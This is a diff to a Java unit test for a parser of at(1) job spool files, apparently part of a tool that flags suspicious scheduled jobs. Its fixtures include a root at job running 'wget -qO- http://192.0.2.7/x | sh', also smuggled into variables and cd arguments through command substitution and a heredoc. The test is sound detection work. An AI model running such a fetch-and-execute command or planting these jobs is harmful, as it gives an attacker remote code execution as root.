@@ -54,13 +54,58 @@ class JobFormatsTest {
                 .parse(
                         file(
                                 "/var/spool/cron/atjobs/c000ff01c8a2a2",
-                                "#!/bin/sh\n# atrun uid=7 gid=7\numask 22\ncd /x || {\n\t exit 1 # Execution directory inaccessible\n}\nrun it\n"))
+                                "#!/bin/sh\n# atrun uid=7 gid=7\n# mail bin 0\numask 22\ncd /x || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\nrun it\n"))
                 .drafts()
                 .getFirst();
         assertEquals("job 255 queue c", job.name());
         assertEquals("2026-11-24T23:30:00Z uid 7\nrun it", job.value());
         assertTrue(
                 new AtJob().parse(file("/var/spool/at/spool.txt", "x")).drafts().isEmpty());
+    }
+
+    /** A job that at 3.2.5 of Debian 13 wrote, its longer variables left out. */
+    @Test
+    void ofAnAtJobOnlyWhatAtWritesByItselfIsNoCommand() {
+        String preamble = """
+                #!/bin/sh
+                # atrun uid=0 gid=0
+                # mail root 0
+                umask 22
+                LANG=C.UTF-8; export LANG
+                EVIL=a"
+                "b\\ c; export EVIL
+                PATH=/root/.cargo/bin:/usr/bin; export PATH
+                cd /tmp/a || {
+                \t echo 'Execution directory inaccessible' >&2
+                \t exit 1
+                }
+                """;
+        String command = "wget -qO- http://192.0.2.7/x | sh";
+        for (String text : List.of(
+                preamble + command + "\n\n",
+                // by hand: the same on fewer lines, none of it, among the variables, in a variable
+                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
+                        + "cd /root || { echo 'Execution directory inaccessible' >&2; exit 1; }\n" + command + "\n",
+                "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\n" + command + "\n",
+                preamble.replace("umask 22\n", command + "\n"),
+                preamble.replace("LANG=C.UTF-8", "LANG=$(" + command + ")"),
+                preamble.replace("cd /tmp/a", "cd $(" + command + ")"),
+                preamble + "${SHELL:-/bin/sh} << 'marcinDELIMITER2f1c'\n" + command + "\nmarcinDELIMITER2f1c\n")) {
+            Draft job = new AtJob()
+                    .parse(file("/var/spool/cron/atjobs/a0000201c8ca1f", text))
+                    .drafts()
+                    .getFirst();
+            assertTrue(job.value().contains(command), text);
+            assertTrue(job.value().startsWith("2026-12-01T23:59:00Z uid 0\n"), job.value());
+            assertTrue(job.traits().containsAll(List.of(Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT)), text);
+        }
+        assertEquals(
+                "2026-12-01T23:59:00Z uid 0\n" + command,
+                new AtJob()
+                        .parse(file("/var/spool/at/b0000201c8ca1f", preamble + command + "\n\n"))
+                        .drafts()
+                        .getFirst()
+                        .value());
     }
 
     @Test
